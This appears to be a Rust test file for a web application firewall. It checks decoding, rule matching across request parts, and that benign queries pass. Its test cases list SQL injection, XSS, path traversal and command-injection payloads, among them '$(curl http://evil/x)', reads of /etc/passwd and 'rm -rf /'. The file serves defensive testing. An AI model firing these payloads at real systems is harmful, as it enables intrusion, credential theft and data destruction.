use proptest::prelude::*;
use raft::model::ByteSize;
use raft::model::policy::KNOWN_WAF_RULES;

use super::*;

fn waf() -> Waf {
    Waf::new(&WafPolicy::default())
}

fn head(path: &str, query: Option<&str>, headers: &[(&str, &str)]) -> Option<Finding> {
    let mut map = HeaderMap::new();
    for (name, value) in headers {
        map.append(
            HeaderName::from_bytes(name.as_bytes()).unwrap(),
            value.parse().unwrap(),
        );
    }
    waf().inspect_head(path, query, &map)
}

fn query_rule(query: &str) -> Option<&'static str> {
    head("/", Some(query), &[]).map(|f| f.rule)
}

#[test]
fn the_rule_table_is_the_models() {
    let ids: Vec<&str> = rule_ids().collect();
    assert_eq!(ids, KNOWN_WAF_RULES);
    assert!(ids.len() <= 32, "rule bits fit a u32");
    LazyLock::force(&ENGINE);
}

#[test]
fn decoding() {
    let mut out = Vec::new();
    assert_eq!(decode(b"a%20b+c", true, &mut out), b"a b c");
    assert_eq!(decode(b"a+b", false, &mut out), b"a+b");
    assert_eq!(decode(b"%253Cscript", false, &mut out), b"<script");
    assert_eq!(decode(b"100%", false, &mut out), b"100%");
    assert_eq!(decode(b"%zz%4", false, &mut out), b"%zz%4");
    assert_eq!(decode(b"&lt;svg&gt;", false, &mut out), b"<svg>");
    assert_eq!(decode(b"&#60;&#x3C;&#x3c", false, &mut out), b"<<<");
    assert_eq!(
        decode(b"&#9999999999;", false, &mut out),
        "\u{FFFD}99;".as_bytes()
    );
    assert_eq!(decode(b"a&b&unknown;", false, &mut out), b"a&b&unknown;");
    assert_eq!(
        decode(b"java&Tab;script&colon;", false, &mut out),
        b"java\tscript:"
    );
}

#[test]
fn json_strings() {
    let mut seen = Vec::new();
    let mut buf = Vec::new();
    for_each_json_string(
        br#"{"a\"b": ["x\u003cy", 1, "t\nz"], "cut": "unterminated"#,
        &mut buf,
        |s| {
            seen.push(String::from_utf8_lossy(s).into_owned());
            true
        },
    );
    assert_eq!(seen, ["a\"b", "x<y", "t\nz", "cut", "unterminated"]);
}

#[test]
fn attacks_are_found_where_they_are() {
    let cases: &[(&str, &str)] = &[
        ("id=1 UNION SELECT password FROM users", "sqli-union"),
        ("id=1%20union/**/all/**/select%201", "sqli-union"),
        ("id=1'+OR+'1'='1", "sqli-tautology"),
        ("user=admin' or 1=1--", "sqli-tautology"),
        ("q=\" or \"\"=\"", "sqli-tautology"),
        ("user=admin'--", "sqli-comment"),
        ("user=admin'%23", "sqli-comment"),
        ("id=1;DROP TABLE users", "sqli-stacked"),
        ("id=1 and sleep(5)", "sqli-function"),
        (
            "id=1 AND extractvalue(1,concat(0x7e,version()))",
            "sqli-function",
        ),
        ("t=select * from information_schema.tables", "sqli-function"),
        ("q=<script>alert(1)</script>", "xss-script"),
        ("q=%3Cscript%3Ealert(1)%3C/script%3E", "xss-script"),
        ("q=%253Cscript%253E", "xss-script"),
        ("q=%26lt;script%26gt;", "xss-script"),
        ("q=<img src=x onerror=alert(1)>", "xss-handler"),
        ("q=<svg/onload=alert(1)>", "xss-handler"),
        ("next=javascript:alert(document.cookie)", "xss-scheme"),
        ("next=data:text/html;base64,PHNjcmlwdD4=", "xss-scheme"),
        ("q=<iframe src=//evil>", "xss-tag"),
        ("file=../../etc/passwd", "traversal-dotdot"),
        ("file=..%2f..%2fwindows", "traversal-dotdot"),
        ("file=%2e%2e%5c%2e%2e%5cboot.ini", "traversal-dotdot"),
        ("file=/etc/shadow", "traversal-file"),
        ("file=C:\\Windows\\win.ini", "traversal-file"),
        ("file=report.pdf%00.txt", "traversal-null"),
        ("host=127.0.0.1;cat /etc/hosts", "cmdi-chain"),
        ("host=x|id", "cmdi-chain"),
        ("host=x %26%26 whoami", "cmdi-chain"),
        ("host=$(curl http://evil/x)", "cmdi-chain"),
        ("host=`ls -la`", "cmdi-chain"),
        ("h=a${IFS}b", "cmdi-subshell"),
        ("h=$(sleep 5)", "cmdi-subshell"),
    ];
    for (query, rule) in cases {
        let found = query_rule(query);
        // The table's first matching rule wins; check the expected one is
        // among those matching.
        assert!(found.is_some(), "{query} passed");
        let mut out = Vec::new();
        let (_, value) = query.split_once('=').unwrap();
        let decoded = decode(value.as_bytes(), true, &mut out).to_vec();
        let matched: Vec<&str> = ENGINE
            .set
            .matches(&decoded)
            .into_iter()
            .map(|i| RULES[i].0)
            .collect();
        assert!(
            matched.contains(rule),
            "{query}: {matched:?}, wanted {rule}"
        );
    }
}

#[test]
fn every_location_is_inspected() {
    let at = |f: Option<Finding>| f.map(|f| (f.rule, f.location));
    assert_eq!(
        at(head("/users/%27%20OR%20%271%27=%271", None, &[])),
        Some(("sqli-tautology", "path"))
    );
    assert_eq!(
        at(head("/", Some("a=1&b=<script>"), &[])),
        Some(("xss-script", "query"))
    );
    assert_eq!(
        at(head("/", Some("<script>=1"), &[])),
        Some(("xss-script", "query")),
        "keys too"
    );
    assert_eq!(
        at(head("/", None, &[("user-agent", "sqlmap/1.7.2#stable")])),
        Some(("scanner-agent", "header"))
    );
    assert_eq!(
        at(head("/", None, &[("referer", "http://x/?q=<script>")])),
        Some(("xss-script", "header"))
    );
    assert_eq!(
        at(head("/", None, &[("cookie", "a=1; sess=' or 1=1--")])),
        Some(("sqli-tautology", "cookie"))
    );
    assert_eq!(
        at(head("/", None, &[("x-search", "<script>")])),
        None,
        "unlisted headers are not inspected"
    );
    let listed = Waf::new(&WafPolicy {
        headers: vec!["X-Search".into()],
        ..WafPolicy::default()
    });
    let mut map = HeaderMap::new();
    map.insert("x-search", "<script>".parse().unwrap());
    assert_eq!(
        listed.inspect_head("/", None, &map).map(|f| f.rule),
        Some("xss-script")
    );
    let w = waf();
    assert_eq!(
        w.inspect_body(
            &BodyKind::Json,
            br#"{"name":"x","bio":"<script>alert(1)</script>"}"#
        )
        .map(|f| (f.rule, f.location)),
        Some(("xss-script", "body"))
    );
    assert_eq!(
        w.inspect_body(&BodyKind::Json, br#"{"q":"\u003cscript\u003e"}"#)
            .map(|f| f.rule),
        Some("xss-script")
    );
    assert_eq!(
        w.inspect_body(&BodyKind::Form, b"user=admin&pass=x'+or+'a'='a")
            .map(|f| f.rule),
        Some("sqli-tautology")
    );
    assert_eq!(
        w.inspect_body(&BodyKind::Text, b"ping 1.1.1.1; rm -rf /")
            .map(|f| f.rule),
        Some("cmdi-chain")
    );
}

#[test]
fn disabled_rules_are_skipped() {
    let w = Waf::new(&WafPolicy {
        disabled_rules: vec!["xss-script".into(), "scanner-agent".into()],
        ..WafPolicy::default()
    });
    let mut headers = HeaderMap::new();
    headers.insert("user-agent", "sqlmap/1.0".parse().unwrap());
    assert_eq!(w.inspect_head("/", Some("q=<script>"), &headers), None);
    assert!(w.inspect_head("/", Some("q=<iframe>"), &headers).is_some());
}

#[test]
fn ordinary_requests_pass() {
    let queries = [
        "q=O'Brien",
        "q=o%27brien+and+sons",
        "name=D'Angelo&city=Coeur d'Alene",
        "q=rock 'n' roll",
        "q=Tom & Jerry",
        "q=salt+%26+pepper",
        "q=it's 5 o'clock",
        "q=I said 'yes' or not",
        "q=how to select items from a list where x > 3",
        "q=trade union selection",
        "q=javascript: the good parts",
        "q=sleep apnea (adult)",
        "q=dogs; cat food",
        "q=Q&A",
        "q=AT&T",
        "q=R&D; id card",
        "q=100% cotton",
        "q=50%25 off",
        "q=C# and F#",
        "q=a <b> tag",
        "q=1 < 2 and 3 > 2",
        "q=see ... the end..",
        "q=v1.2..v1.3",
        "q=e-mail: john.doe+tag@example.com",
        "redirect=https://app.example.com/callback?state=abc&code=123",
        "url=https%3A%2F%2Fexample.com%2Fa%2Fb%3Fx%3D1%26y%3D2",
        "next=/dashboard/settings",
        "filter[status]=active&sort=-created_at&page[size]=50",
        "fields=id,name,email&include=orders.items",
        "ts=2024-01-31T12:00:00Z&tz=+01:00",
        "callback=jQuery3510_1700000000000",
        "text=SELECT your plan",
        "q=the union of sets",
        "q=#hashtag",
        "channel='#general'",
        "q=path/to/file.txt",
        "id=550e8400-e29b-41d4-a716-446655440000",
        "expr=a|b",
        "cmd=ls",
        "q=; cat lovers",
        "q=onboarding=true",
        "price>=10&price<=20",
        "q=drop table tennis lessons",
        "q=where's my order?",
    ];
    for query in queries {
        assert_eq!(query_rule(query), None, "{query}");
    }
    let w = waf();
    let headers = [
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        ),
        ("user-agent", "curl/8.5.0"),
        (
            "referer",
            "https://www.example.com/search?q=O%27Brien&page=2",
        ),
        (
            "cookie",
            "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark; _ga=GA1.2.3.4",
        ),
    ];
    for (name, value) in headers {
        let mut map = HeaderMap::new();
        map.insert(HeaderName::from_static(name), value.parse().unwrap());
        assert_eq!(w.inspect_head("/", None, &map), None, "{name}: {value}");
    }
    for path in [
        "/api/v1/users/42",
        "/api/users/O'Brien",
        "/search/rock%20'n'%20roll",
        "/files/report-2024.final.pdf",
        "/.well-known/openid-configuration",
    ] {
        assert_eq!(
            w.inspect_head(path, None, &HeaderMap::new()),
            None,
            "{path}"
        );
    }
    let bodies: &[(BodyKind, &str)] = &[
        (
            BodyKind::Json,
            r#"{"name":"Miles O'Brien","email":"miles@example.com","tags":["a","b"],"age":42,"active":true,"note":"Tom & Jerry; it's fine","url":"https://example.com/a?b=c&d=e"}"#,
        ),
        (
            BodyKind::Json,
            r#"{"query":"select a plan","filter":{"price":{"gte":10,"lte":20}},"text":"1 < 2 and 3 > 2"}"#,
        ),
        (
            BodyKind::Form,
            "username=miles&password=p%40ss'word%21&remember=on",
        ),
        (
            BodyKind::Text,
            "Hello, it's me. I was wondering... (see you at 5).",
        ),
    ];
    for (kind, body) in bodies {
        assert_eq!(w.inspect_body(kind, body.as_bytes()), None, "{body}");
    }
    let json = large_json(8 << 10);
    assert_eq!(w.inspect_body(&BodyKind::Json, &json), None);
}

/// An ordinary JSON document of about `size` bytes.
pub(crate) fn large_json(size: usize) -> Vec<u8> {
    let mut out = String::from("{\"items\":[");
    let mut i = 0;
    while out.len() < size {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&format!(
            r#"{{"id":{i},"name":"Item {i} of O'Brien & Sons","price":{}.99,"url":"https://shop.example.com/items/{i}?ref=list&page=2","tags":["new","sale"]}}"#,
            i % 100
        ));
        i += 1;
    }
    out.push_str("]}");
    out.into_bytes()
}

#[test]
fn body_limit_defaults() {
    let w = Waf::new(&WafPolicy {
        body_limit: ByteSize(0),
        ..WafPolicy::default()
    });
    assert_eq!(w.body_limit, 0);
    assert_eq!(waf().body_limit, 8192);
}

proptest! {
    #[test]
    fn never_panics(path in "/[ -~]{0,200}", query in proptest::collection::vec(any::<u8>(), 0..300),
                    body in proptest::collection::vec(any::<u8>(), 0..500)) {
        let w = waf();
        let query = String::from_utf8_lossy(&query).into_owned();
        let _ = w.inspect_head(&path, Some(&query), &HeaderMap::new());
        for kind in [BodyKind::Form, BodyKind::Json, BodyKind::Text, BodyKind::Xml, BodyKind::Multipart(b"b".to_vec())] {
            let _ = w.inspect_body(&kind, &body);
        }
        let mut out = Vec::new();
        let _ = decode(&body, true, &mut out);
    }
}

#[test]
fn xml_bodies_are_read_as_text_and_attributes() {
    let w = waf();
    let xml = BodyKind::of_type("application/soap+xml; charset=utf-8").unwrap();
    assert_eq!(xml, BodyKind::Xml);
    for (body, rule) in [
        // Escaped markup inside a text node is the attack, not the XML.
        (
            &b"<order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>"[..],
            Some("xss-script"),
        ),
        (
            b"<order id=\"1' OR '1'='1\"><item/></order>",
            Some("sqli-tautology"),
        ),
        (b"<q><![CDATA[; rm -rf /]]></q>", Some("cmdi-chain")),
        // Ordinary documents, including element names that are SQL words.
        (
            b"<select><option value=\"a\">Tom &amp; Jerry</option></select>",
            None,
        ),
        // A cut-off prefix: what arrived is inspected.
        (b"<a><b>fine</b><c>&lt;script&gt;al", Some("xss-script")),
    ] {
        assert_eq!(
            w.inspect_body(&xml, body).map(|f| f.rule),
            rule,
            "{}",
            String::from_utf8_lossy(body)
        );
    }
}

#[test]
fn multipart_fields_and_text_files_are_inspected() {
    let w = waf();
    let kind = BodyKind::of_type("multipart/form-data; boundary=\"XyZ\"").unwrap();
    assert_eq!(kind, BodyKind::Multipart(b"XyZ".to_vec()));
    let body = |parts: &[(&str, &str)]| {
        let mut out = String::new();
        for (head, content) in parts {
            out.push_str(&format!("--XyZ\r\n{head}\r\n\r\n{content}\r\n"));
        }
        out.push_str("--XyZ--\r\n");
        out
    };
    let field = "Content-Disposition: form-data; name=\"comment\"";
    let json = "Content-Disposition: form-data; name=\"meta\"\r\nContent-Type: application/json";
    let image =
        "Content-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png";
    let bad_name = "Content-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"";
    for (parts, rule) in [
        (vec![(field, "hello there")], None),
        (
            vec![(field, "fine"), (field, "x' OR '1'='1")],
            Some("sqli-tautology"),
        ),
        (
            vec![(json, r#"{"bio":"<script>alert(1)</script>"}"#)],
            Some("xss-script"),
        ),
        // Binary files are not read as text.
        (vec![(image, "<script> ' OR 1=1 -- ; rm -rf /")], None),
        (vec![(bad_name, "data")], Some("traversal-dotdot")),
    ] {
        let text = body(&parts);
        assert_eq!(
            w.inspect_body(&kind, text.as_bytes()).map(|f| f.rule),
            rule,
            "{text}"
        );
    }
}
